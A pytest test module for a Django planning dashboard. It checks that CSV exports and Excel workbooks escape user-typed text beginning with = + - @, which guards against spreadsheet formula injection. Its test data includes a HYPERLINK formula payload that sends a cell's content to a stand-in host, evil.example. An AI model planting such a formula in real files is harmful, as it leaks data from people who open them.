"""Text somebody typed never becomes a formula in a file opened with a spreadsheet.

A note, a source or a measure's name that starts with = + - @ is written so that Excel
shows it exactly and runs nothing: in CSV files (figures.csv from the plans page and the
API, statuses.csv) with a leading ' that the figures reader drops again, in the review
workbook and the Excel template as a text cell. Numbers stay numbers, negative ones too,
and the formulas the review workbook computes on purpose stay formulas.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.utils import timezone

from chitieu.figures.reading import read_figures
from chitieu.web.figures.models import FigureRecord
from chitieu.web.plans.convert import core_plan
from tests.entryhelpers import entry_url, form
from tests.webhelpers import client_for

LINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
# (as_of day in April 2026, value, source, note): what was stored
STORED = [
    (1, "-5", LINK, "+84 912 345 678"),
    (2, "1", "Cục Thống kê", "-5% so với cùng kỳ"),
    (3, "2", "'=đã có dấu nháy", "\t=1+1"),
    (4, "3", "@x", "'ghi chú bình thường"),  # the latest: the review shows its source
]
# the same cells as figures.csv writes them
WRITTEN = [
    ("-5", "'" + LINK, "'+84 912 345 678"),
    ("1", "Cục Thống kê", "'-5% so với cùng kỳ"),
    ("2", "''=đã có dấu nháy", "'\t=1+1"),
    ("3", "'@x", "'ghi chú bình thường"),
]


@pytest.fixture
def typed(demo, people):
    """Approved 2025 figures of trained-labour whose sources and notes look like formulas."""
    measure = demo.measures.get(key="trained-labour")
    for day, value, source, note in STORED:
        FigureRecord.objects.create(
            plan=demo,
            measure=measure,
            unit_code=demo.area_code,
            period="2025",
            value=Decimal(value),
            stage="official",
            as_of=date(2026, 4, day),
            source=source,
            note=note,
            entered_by=people["kehoach"],
            approved_by=people["kehoach"],
            approved_at=timezone.now(),
        )
    demo.touch()
    return demo


def _typed_rows(text: str) -> list[tuple[str, str, str]]:
    rows = csv.DictReader(io.StringIO(text))
    return [(r["value"], r["source"], r["note"]) for r in rows if _typed(r["metric"], r["as_of"])]


def _typed(metric: str, as_of: str | date) -> bool:
    return metric == "trained-labour" and str(as_of) >= "2026-04-01"


@pytest.mark.parametrize(
    "url", ["/plans/langson-xvii/figures.csv", "/api/plans/langson-xvii/figures.csv"]
)
def test_figures_csv_quotes_formula_text_and_reads_back_exactly(typed, url, tmp_path):
    text = client_for("daibieu").get(url).getvalue().decode()
    assert _typed_rows(text) == WRITTEN
    path = tmp_path / "figures.csv"
    path.write_text(text, encoding="utf-8")
    back = read_figures(path, core_plan(typed))
    assert [
        (f.as_of.day, str(f.value), f.source, f.note) for f in back if _typed(f.metric, f.as_of)
    ] == STORED


def test_statuses_csv_quotes_a_name_and_keeps_a_negative_value_a_number(typed, people):
    measure = typed.measures.get(key="poverty-rate")
    measure.name = LINK
    measure.save()
    FigureRecord.objects.create(
        plan=typed,
        measure=measure,
        unit_code=typed.area_code,
        period="2025",
        value=Decimal("-1.5"),
        places=1,
        stage="official",
        as_of=date(2026, 5, 1),
        approved_at=timezone.now(),
        approved_by=people["kehoach"],
    )
    typed.touch()
    body = client_for(None).get("/api/plans/langson-xvii/statuses.csv?lang=en").content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    row = next(r for r in rows if r[1] == "poverty-rate")
    assert row[:6] == ["14", "poverty-rate", "'" + LINK, "%", "< 3%", "-1.5"]


def _cells(ws):
    return [c for row in ws.iter_rows() for c in row if c.value is not None]


def test_the_review_workbook_shows_typed_text_and_computes_its_own_formulas(typed):
    measure = typed.measures.get(key="trained-labour")
    measure.name = LINK
    measure.save()
    typed.touch()
    query = {"period": "2025", "kind": "review", "format": "xlsx", "lang": "vi"}
    response = client_for("daibieu").get("/dashboard/langson-xvii/reports/", query)
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    cells = [c for ws in book.worksheets for c in _cells(ws)]
    named = [c for c in cells if c.value == LINK]
    assert named, "the measure's name is in the summary"
    assert all(c.data_type == "s" and c.quotePrefix for c in named)
    sources = [c for c in cells if c.value == "@x"]
    assert sources and all(c.data_type == "s" and c.quotePrefix for c in sources)
    # the workbook's own formulas are still formulas: references and computations
    formulas = [c for c in cells if c.data_type == "f"]
    assert any(str(c.value).startswith("='") for c in formulas)
    assert any("LOOKUP(" in str(c.value) for c in formulas)
    assert not any("HYPERLINK" in str(c.value) for c in formulas)


def test_the_excel_template_keeps_a_reporter_s_note_as_text(demo):
    data = form(trained_labour="65,5")
    data["note-trained-labour-20"] = LINK
    client_for("laodong").post(entry_url(), data)
    response = client_for("kehoach").get(entry_url(name="template"))
    ws = openpyxl.load_workbook(io.BytesIO(response.content)).active
    notes = [c for c in _cells(ws) if c.value == LINK]
    assert len(notes) == 1 and notes[0].column_letter == "J"
    assert notes[0].data_type == "s" and notes[0].quotePrefix
    assert not [c for c in _cells(ws) if c.data_type == "f"]
    assert ws["H7"].value == 65.5  # the value stays a number
